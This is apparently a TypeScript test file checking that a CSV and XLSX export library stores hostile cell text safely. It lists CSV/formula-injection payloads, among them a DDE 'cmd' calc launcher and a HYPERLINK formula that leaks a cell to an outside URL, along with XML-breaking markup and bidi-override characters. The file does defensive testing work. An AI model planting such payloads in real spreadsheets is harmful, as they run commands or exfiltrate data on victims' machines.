/** A name or a remark can do no harm to the person who opens an export, in either format. */
import { strFromU8, unzipSync } from 'fflate';
import { expect, it } from 'vitest';
import { csvWriter } from './csv-writer.ts';
import { readTable } from './read.ts';
import type { OnChunk, TableWriter } from './typed-cells.ts';
import { xlsxWriter } from './xlsx-writer.ts';

const FORMULAS = [
  '=HYPERLINK("https://example.com?"&A1)',
  '+1+1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r\n=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
];
const MARKUP = [']]></t></is></c><c><f>1+1</f></c>', '<f>1+1</f>', '&#61;1+1', '\u0000\u0001\u000b\ufffe', '\ud800'];

const written = (writer: (onChunk: OnChunk) => TableWriter, texts: readonly string[]): Uint8Array => {
  const chunks: Uint8Array[] = [];
  const table = writer((chunk) => void chunks.push(chunk));
  for (const text of texts) table.row([{ is: 'text', text }]);
  table.end();
  return Buffer.concat(chunks);
};
const sheetOf = (texts: readonly string[]): string => {
  const parts = unzipSync(written((onChunk) => xlsxWriter(onChunk, '商户'), texts));
  return strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
};
const rowsOf = (texts: readonly string[]) =>
  readTable(written((onChunk) => xlsxWriter(onChunk, '商户'), texts)).rows.map(([text]) => text);

it('in XLSX every text is stored as text, whatever it looks like, and the file stays valid', () => {
  for (const hostile of [...FORMULAS, ...MARKUP]) {
    const sheet = sheetOf([hostile]);
    expect(sheet).not.toMatch(/<f[ >]|<hyperlink/);
    expect((sheet.match(/<c /g) ?? []).length).toBeLessThanOrEqual(1);
    expect(sheet).not.toMatch(/[^\P{Cc}\t\n\r]|[\ufffe\uffff]/u);
  }
});

it('in CSV no text begins a formula or another row', () => {
  for (const hostile of FORMULAS) {
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(written(csvWriter, [hostile]));
    expect(text.slice(1)).toMatch(/^"?'/);
    expect(readTable(Buffer.from(text)).rows).toHaveLength(1);
  }
});

it('a text is cut to the length that a cell holds: a longer one makes spreadsheets call the file damaged', () => {
  const [cell = ''] = rowsOf(['长'.repeat(40_000)]);
  expect([cell.length, cell.endsWith('长…')]).toEqual([32_767, true]);
});

it('no text is read as characters that it does not hold', () => {
  expect(sheetOf(['_x003D_1+1'])).toContain('>_x005F_x003D_1+1<');
});

it('no mark changes the order of the text around it', () => {
  const turned = '退款\u202e00.001\u202c 元\u2067';
  expect(rowsOf([turned])).toEqual(['退款00.001 元']);
  expect(new TextDecoder().decode(written(csvWriter, [turned]))).toContain('退款00.001 元');
});
